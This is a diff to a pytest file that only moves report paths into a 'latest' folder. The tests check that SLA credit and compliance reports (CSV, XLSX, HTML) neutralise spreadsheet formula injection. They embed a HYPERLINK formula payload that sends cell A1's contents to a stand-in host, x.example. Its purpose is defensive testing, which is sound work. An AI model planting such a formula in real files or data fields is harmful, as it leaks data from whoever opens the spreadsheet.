@@ -84,18 +84,18 @@ def _acme(rows: list[dict[str, str]], objective_id: str) -> dict[str, str]:
 
 @pytest.mark.slow
 def test_credits_csv_prefixes_the_formula_customer(reports: Path):
-    rows = _rows(reports / "2026-03" / "credits.csv")
+    rows = _rows(reports / "2026-03" / "latest" / "credits.csv")
     acme = [r for r in rows if r["agreement_id"] == "acme-hosting"]
     assert acme and {r["customer"] for r in acme} == {"'" + LEAKING_CUSTOMER}
     # the file's text: quoted because of the commas and quotes, with the quote inside the field
-    raw = (reports / "2026-03" / "credits.csv").read_text(encoding="utf-8-sig")
+    raw = (reports / "2026-03" / "latest" / "credits.csv").read_text(encoding="utf-8-sig")
     assert '"\'=HYPERLINK(""http://x.example/?leak=""&A1,""click"")"' in raw
     assert ',"=HYPERLINK(' not in raw and ",=HYPERLINK(" not in raw
 
 
 @pytest.mark.slow
 def test_compliance_csv_prefixes_customer_and_objective_names(reports: Path):
-    rows = _rows(reports / "2026-03" / "compliance.csv")
+    rows = _rows(reports / "2026-03" / "latest" / "compliance.csv")
     availability = _acme(rows, "availability")
     first_response = _acme(rows, "p1-first-response")
     assert availability["customer"] == "'" + LEAKING_CUSTOMER
@@ -110,7 +110,7 @@ def test_compliance_csv_prefixes_customer_and_objective_names(reports: Path):
 
 @pytest.mark.slow
 def test_xlsx_stores_the_names_as_text_not_formulas(reports: Path):
-    sheet = openpyxl.load_workbook(reports / "2026-03" / "credits.xlsx")["credits"]
+    sheet = openpyxl.load_workbook(reports / "2026-03" / "latest" / "credits.xlsx")["credits"]
     header = [cell.value for cell in sheet[1]]
     customers = [
         sheet.cell(row, header.index("customer") + 1) for row in range(2, sheet.max_row + 1)
@@ -122,7 +122,9 @@ def test_xlsx_stores_the_names_as_text_not_formulas(reports: Path):
 
 @pytest.mark.slow
 def test_review_pack_html_shows_the_names_escaped(reports: Path):
-    html = (reports / "2026-03" / "review_packs" / "acme-hosting.html").read_text(encoding="utf-8")
+    html = (reports / "2026-03" / "latest" / "review_packs" / "acme-hosting.html").read_text(
+        encoding="utf-8"
+    )
     # Jinja's autoescape: quotes and the ampersand are entities, so no attribute or link forms
     assert "=HYPERLINK(&#34;http://x.example/?leak=&#34;&amp;A1,&#34;click&#34;)" in html
     assert LEAKING_CUSTOMER not in html
